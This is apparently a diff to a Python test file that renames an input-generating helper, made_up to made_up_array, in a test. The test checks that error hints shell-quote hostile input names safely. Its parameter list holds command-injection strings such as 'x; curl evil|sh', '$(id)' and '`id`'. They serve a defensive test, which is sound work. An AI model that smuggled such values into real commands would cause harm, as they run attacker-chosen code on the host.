@@ -12,7 +12,7 @@ from heald.errors import InvalidArgument
 from heald.graphs.graph.graph import Node
 from heald.runtime.values import dtypes
 from heald.runtime.values.tensor import TensorMetadata
-from heald_tools.inputs import made_up
+from heald_tools.inputs import made_up_array
 
 PLUGIN = """
 from heald.api import OpSpec, hookimpl
@@ -191,7 +191,7 @@ def test_the_name_of_an_input_is_one_word_of_a_command(command, saved, name):
 @pytest.mark.parametrize("name", ["x; curl evil|sh", "$(id)", "`id`", "it's", "-o evil"])  # of a signature
 def test_any_name_of_an_input_is_one_word_of_a_hint(name):
     with pytest.raises(InvalidArgument) as caught:
-        made_up(TensorMetadata(dtypes.string, (1,)), name)
+        made_up_array(TensorMetadata(dtypes.string, (1,)), name)
     assert shlex.split(str(caught.value.hint)) == ["--input", f"{name}=FILE.npy"]
 
 
